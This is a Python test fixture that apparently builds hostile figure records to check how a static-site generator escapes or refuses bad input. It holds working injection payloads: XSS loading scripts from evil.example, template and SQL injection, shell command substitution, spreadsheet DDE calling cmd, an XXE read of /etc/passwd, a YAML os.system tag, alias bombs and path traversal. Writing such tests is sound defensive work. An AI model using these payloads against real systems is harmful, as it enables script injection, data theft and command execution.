"""Three hundred hostile records: every field of each kind of attack, and every attack in all fields at once."""

from __future__ import annotations

import os
from functools import cache
from typing import TYPE_CHECKING, Any

import yaml

from tests.site.building import gene, write_site

if TYPE_CHECKING:
    from pathlib import Path

__all__ = ["FIELDS", "PAYLOADS", "PRODUCT", "REFUSED", "SETTINGS", "good_records", "put", "text_of", "write_hostile"]

PRODUCT = str(31337 * 73331)
"""What stands in an output where a template engine took a text for its own."""
_SUM = "31337*73331"
_EVIL = "https://evil.example/"

PAYLOADS = {
    "script": f"<script>alert(1)</script><script src={_EVIL}x.js></script>",
    "end-script": f"</script><script>alert(2)</script><img src={_EVIL}a.png onerror=alert(3)>",
    "end-title": "</title></textarea></style></noscript><svg/onload=alert(4)>",
    "comment": "--><!--<img src=x onerror=alert(5)>--!><script>alert(5)</script>",
    "cdata": "]]><x xmlns='http://www.w3.org/1999/xhtml'><script>alert(6)</script>",
    "double-quote": '" autofocus onfocus=alert(7) x="',
    "single-quote": "' onmouseover='alert(8)' x='",
    "unquoted": "x onfocus=alert(9) autofocus tabindex=1",
    "backtick": "`${alert(10)}` onload=`alert(10)`",
    "javascript": "javascript:alert(11)//https://example.org/",
    "javascript-tab": "java\tscript:alert(12)",
    "data": "data:text/html,<script>alert(13)</script>",
    "vbscript": "vbscript:msgbox(14)",
    "blob": "blob:https://evil.example/x",
    "protocol-relative": "//evil.example/x",
    "backslashes": "\\\\evil.example\\x",
    "base": f"<base href={_EVIL}>",
    "meta": f"<meta http-equiv=refresh content=0;url={_EVIL}>",
    "link": f"<link rel=stylesheet href={_EVIL}x.css>",
    "style": f"<style>@import url({_EVIL}x.css);*{{background:url({_EVIL}y)}}</style>",
    "iframe": f"<iframe srcdoc='<script>alert(15)</script>' src={_EVIL}></iframe>",
    "object": f"<object data={_EVIL}x.swf></object><embed src={_EVIL}y>",
    "form": f"<form action={_EVIL}><button autofocus>go</button></form>",
    "math": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(16)&gt;'>",
    "template-element": "<template><script>alert(17)</script></template><noscript><p title='</noscript><img src=x>'>",
    "clobber": "<form id=genes name=q><input name=action id=main><a id=table name=body>",
    "jinja": "{{ " + _SUM + " }}{% for x in range(9) %}{{ x }}{% endfor %}{# gone #}",
    "engines": "${" + _SUM + "} #{" + _SUM + "} <%= " + _SUM + " %> {{{" + _SUM + "}}} [[" + _SUM + "]]",
    "format": "{0.__class__.__mro__} %s %(x)s {figid} {pmcid} {filename}",
    "python": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "json-ld": '"}]},{"@type":"Evil","@id":"https://evil.example/"',
    "entities": "&lt;script&gt;alert(18)&lt;/script&gt;&#60;img src=x onerror=alert(18)&#62;&quot;&apos;&nbsp",
    "dtd": "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "nulls": "a\0b\x01c\x08d\x0be\x0cf\x1bg\x7fh",
    "terminal": "\x1b]0;title\x07\x1b[31mred\x1b[2J",
    "c1": "a\x80b\x9bc\x85d",
    "separators": "a\u2028alert(19)\u2029b",
    "bidi": "\u202egnp.exe\u202c \u2066x\u2067y\u2068z \u202aL\u202bR\u202dO",
    "surrogates": "a\ud800b\udc00c\udbff",
    "noncharacters": "a\ufffeb\uffffc\ufeffd\U0001ffffe",
    "combining": "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e" * 40,
    "zero-width": "\u200b\u200c\u200d\u2060\u00ad",
    "homoglyph": "\u0440\u0430ypal \uff1cscript\uff1ealert(20)\uff1c/script\uff1e",
    "overlong": "\u00c0\u00bcscript\u00c0\u00be",
    "lines": "first\nsecond\r\nthird\rfourth\tfifth\n---\nsixth: x\n",
    "formula": '=HYPERLINK("https://evil.example/"&A1,"x")',
    "dde": "+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "tex": "}\\input{/etc/passwd}\\write18{ls}%{$\\immediate#_&~^",
    "bibtex": "}, note = {x}}\n@book{evil, title = {x}",
    "ris": "x\r\nER  - \r\nTY  - EVIL\r\nUR  - javascript:alert(21)",
    "nginx": '"; } server { listen 1; } # ${uri} ~^/.* $1',
    "netlify": "/* https://evil.example/:splat 301!\n/x /y",
    "shell": "$(touch pwned) `touch pwned`; touch pwned | touch pwned & %PATH%",
    "sql": "'; DROP TABLE figures; -- \" OR 1=1",
    "path": "../../../../etc/passwd",
    "path-encoded": "..%2f..%2f%2e%2e/%00/..;/x",
    "markdown": "[x](javascript:alert(22)) ![y](https://evil.example/y.png) <https://evil.example> `</code><script>`",
    "regexp": "(a+)+$[\\",
    "long-word": "W" * 5_000,
    "long-text": "many words \u00e4 " * 4_000,
    "fullwidth": "\uff1cimg src=x onerror=alert(23)\uff1e",
}
"""Texts by the name of what they attack."""

_TEXT_FIELDS = (
    "figtitle", "caption", "papertitle", "reftext", "year", "number", "figtype", "filename", "figlink", "doi",
    "journal_title", "wpid", "ndex", "figid_alias", "pmc_ranked_result_index", "pathway_score", "seo", "pmcid",
)  # fmt: skip
_ROWS = {
    "genes": ("word", "symbol", "source", "hgnc_symbol", "entrez", "organism", "more"),
    "chemicals": ("word", "source", "identifier", "name", "more"),
    "diseases": ("word", "source", "identifier", "name"),
}
_SCHEMA = ("@id", "@context", "name", "description", "keywords", "license", "url", "identifier")

FIELDS = (
    *_TEXT_FIELDS, "organisms", "annotations", "body", "unknown", "key", "creator",
    *(f"schema-jsonld.{k}" for k in _SCHEMA), *(f"{kind}.{k}" for kind, keys in _ROWS.items() for k in keys),
)  # fmt: skip
"""Every place of a record that takes a text."""

ALONE = ("end-script", "double-quote", "javascript", "jinja")
"""Attacks that each field meets alone, so that no other field of the record can hide what it does."""

SETTINGS = """\
title: Hostile
url: https://example.org/sub/
edit_url: https://edit.example.org/{file}?id={figid}
feed_size: 500
listing_page: 100
redirects: [html, netlify, nginx, apache]
"""

REDIRECTS = (
    "/figures/\u00e9; }x&$uri'", "/figures/a b;c{d}$1", "/figures/%7Bscript%7D", "/figures/'x'=y", "/~a/b@c,d!e",
    "/CNAME/x", "/_redirects/x", "/figures/-rf", "/old/javascript,alert(1)",
)  # fmt: skip


def _plain(figid: str) -> dict[str, Any]:
    """Return a record in which nothing is wrong."""
    return {
        "figid": figid,
        "pmcid": "PMC1",
        "figtitle": f"Title of {figid}",
        "caption": "What can be seen in this figure, said in enough words.",
        "papertitle": "A paper",
        "year": "2020",
        "organisms": ["Homo sapiens"],
        "filename": "a.jpg",
        "genes": [gene("TP53", "7157", "p53"), gene("MDM2", "4193")],
    }


def put(front: dict[str, Any], field: str, text: str) -> str:
    """Put a text into a field of a record; returns the body."""
    kind, _, key = field.partition(".")
    if field == "body":
        return f"{text}\n\n# {text[:1000]}\n\n> {text[:1000]}\n"
    if field in {"organisms", "annotations"}:
        front[field] = ["Homo sapiens", text]
    elif field == "key":
        front[f"key {text}"[:1000]] = "value"
    elif field == "creator":
        front.setdefault("schema-jsonld", {})["creator"] = {"name": text, "@type": text}
    elif kind == "schema-jsonld":
        front.setdefault(kind, {})[key] = text
    elif kind in _ROWS:
        row = front.setdefault(f"_{kind}", gene("EVIL", "999", "evil") if kind == "genes" else {"word": "evil"})
        row[key] = text
        front[kind] = [*(r for r in front.get(kind, []) if r is not row), row]
    else:
        front[field] = text
    return ""


def text_of(front: dict[str, Any], body: str, *, escaped: bool) -> bytes:
    """Return the bytes of a record, characters beyond ASCII by escapes or as they are."""
    front = {k: v for k, v in front.items() if not k.startswith("_")}
    dumped = yaml.dump(front, Dumper=yaml.CSafeDumper, allow_unicode=not escaped, sort_keys=False, width=10_000)
    return f"---\n{dumped}---\n{body}".encode("utf-8", "replace")


@cache
def good_records() -> dict[str, bytes]:
    """Return the records that must be published, by figid: harmless, however they look."""
    out = {}
    for n, (name, payload) in enumerate(PAYLOADS.items()):
        if name == "surrogates":  # which YAML does not know: among those that are refused
            continue
        front, body = _plain(f"PMC{n}__all-{name}"), ""
        for field in FIELDS:
            if field != "pmcid":  # without a good one there is no address of an image to attack
                body += put(front, field, payload)
        out[front["figid"]] = text_of(front, body, escaped=n % 2 == 0 or name in {"nulls", "terminal"})
        # Its year is none there, and the feed has dated figures alone.
        dated = _plain(f"PMC5__title-{n}") | {"figtitle": payload}
        out[dated["figid"]] = text_of(dated, "", escaped=name in {"nulls", "terminal"})
    for field in FIELDS:
        for attack in ALONE:
            front = _plain(f"PMC9__{attack}-{field.replace('@', 'at-')}")
            body = put(front, field, PAYLOADS[attack])
            out[front["figid"]] = text_of(front, body, escaped=False)
    for n, address in enumerate(REDIRECTS):
        front = _plain(f"PMC8__redirect-{n}") | {"redirect_from": address}
        out[front["figid"]] = text_of(front, "", escaped=False)
    plain = text_of(_plain("PMC7__crlf"), "A text.\n", escaped=False)
    out["PMC7__crlf"] = plain.replace(b"\n", b"\r\n")
    out["PMC7__bom"] = b"\xef\xbb\xbf" + plain.replace(b"crlf", b"bom")
    return out


def _front(lines: str) -> bytes:
    """Return a record of these lines behind figid and pmcid."""
    return f"---\nfigid: PMC6__x\npmcid: PMC6\n{lines}\n---\n".encode()


_EXPLODING = "\n".join(f"b{i}: &b{i} [{', '.join([f'*b{i - 1}'] * 10)}]" for i in range(1, 10))
_LONG = f"a: &a '{'x y' * 33_333}'"
REFUSED: dict[str, tuple[bytes, str]] = {
    "object-tag": (_front("caption: !!python/object/apply:os.system ['touch pwned']"), "front-matter"),
    "own-tag": (_front("caption: !evil x"), "front-matter"),
    "binary-tag": (_front("caption: !!binary aGk="), "front-matter"),
    "aliases": (_front(f"b0: &b0 [x, y]\n{_EXPLODING}"), "too-large"),
    "aliases-of-text": (_front(f"{_LONG}\nmore:\n" + "- *a\n" * 30_000), "too-large"),
    "aliases-in-genes": (_front(f"{_LONG}\ngenes:\n" + "- {word: *a, hgnc_symbol: T}\n" * 30_000), "too-large"),
    "aliases-of-fields": (_front(f"{_LONG}\n" + "\n".join(f"k{n}: *a" for n in range(2_000))), "too-large"),
    "circle": (_front("more: &m [*m]"), "too-large"),
    "merge": (_front("<<: &x {a: [*x]}"), "too-large"),
    "nested": (_front("x: " + "[" * 10_000 + "]" * 10_000), "front-matter"),
    "nested-open": (_front("x: " + "[" * 1_000_000), "front-matter"),
    "nested-dashes": (_front("x:\n" + "- " * 100_000), "front-matter"),
    "ten-megabytes": (_front(f"caption: {'x' * 10_000_000}"), "too-large"),
    "ten-megabytes-below": (_front("year: 2020") + b"x" * 10_000_000, "too-large"),
    "whole-file": (_front("year: 2020") + b"x" * 17_000_000, "too-large"),
    "nul": (_front("caption: a\0b"), "front-matter"),
    "escape": (_front("caption: a\x1bb"), "front-matter"),
    "latin-1": (_front("year: 2020").replace(b"2020", b"Pr\xfcfung"), "front-matter"),
    "utf-16": (_front("year: 2020").decode().encode("utf-16"), "front-matter"),
    "utf-7": (b"+AC0-+AC0-+AC0-\nfigid: x\n", "front-matter"),
    "surrogates": (_front('caption: "a\\ud800b\\udc00c"'), "front-matter"),
    "surrogate-bytes": (_front("year: 2020").replace(b"2020", b"\xed\xa0\x80"), "front-matter"),
    "duplicate-keys": (_front("caption: a\ncaption: b"), "front-matter"),
    "empty": (b"", "front-matter"),
    "blank": (b"\n\n \n", "front-matter"),
    "no-end": (b"---\nfigid: x\n", "front-matter"),
    "second-document": (_front("a: b\n--- !x\nc: d"), "front-matter"),
    "directive": (_front("%YAML 9.9\na: b"), "front-matter"),
    "figid-path": (_front("").replace(b"PMC6__x", b"../../pwned"), "figid-unsafe"),
    "figid-absolute": (_front("").replace(b"PMC6__x", b"/tmp/pwned"), "figid-unsafe"),
    "figid-markup": (_front("").replace(b"PMC6__x", b"PMC6__<b>"), "figid-unsafe"),
    "figid-control": (_front("").replace(b"PMC6__x", b'"PMC6__\\0x"'), "figid-unsafe"),
    "figid-reserved": (_front("").replace(b"PMC6__x", b"index"), "figid-unsafe"),
    "redirect-out": (_front("redirect_from: /../../pwned"), "redirect-unsafe"),
    "redirect-encoded": (_front("redirect_from: /%2e%2e/%2e%2e/pwned"), "redirect-unsafe"),
    "redirect-host": (_front("redirect_from: //evil.example/x"), "redirect-unsafe"),
    "redirect-javascript": (_front("redirect_from: 'javascript:alert(1)'"), "redirect-unsafe"),
    "redirect-line": (_front('redirect_from: "/a\\n/b /c 301"'), "redirect-unsafe"),
    "redirect-file": (_front("redirect_from: /robots.txt/x"), "redirect-unsafe"),
    "redirect-hidden": (_front("redirect_from: /.git/config"), "redirect-unsafe"),
    "title-mapping": (_front("figtitle: {a: b}"), "not-text"),
    "genes-text": (_front("genes: '<script>'"), "not-a-list"),
    "key-list": (_front("? [a, b]\n: c"), "front-matter"),
}  # fmt: skip
"""Records that must be refused, with the rule that says so; named after what they are."""


def write_hostile(root: Path) -> tuple[Path, set[str]]:
    """Write all of it as a source; returns its folder and the names of the files that must be refused."""
    files: dict[str, bytes | str] = {**good_records()}
    for name, (data, _) in REFUSED.items():
        right = name if name.startswith("figid-") else "PMC6__x"
        files[f"figures/{name}/{right}.md"] = (
            data.replace(b"PMC6__x", f"PMC6__{name}".encode()) if right != name else data
        )
    for name in [n for n in files if n.endswith("/PMC6__x.md")]:
        folder = name.split("/")[1]
        files[f"figures/{folder}/PMC6__{folder}.md"] = files.pop(name)
    source = write_site(root, files, SETTINGS)
    refused = {name.removeprefix("figures/") for name in files if "/" in name}
    figures = source / "figures"
    outside = root.parent / "outside.md"
    outside.write_bytes(text_of(_plain("PMC5__link"), "", escaped=False))
    (figures / "PMC5__folder.md").mkdir()
    (figures / "PMC5__link.md").symlink_to(outside)
    (figures / "PMC5__nowhere.md").symlink_to("nothing.md")
    os.mkfifo(figures / "PMC5__pipe.md")
    return source, refused | {f"PMC5__{n}.md" for n in ("folder", "link", "nowhere", "pipe")}
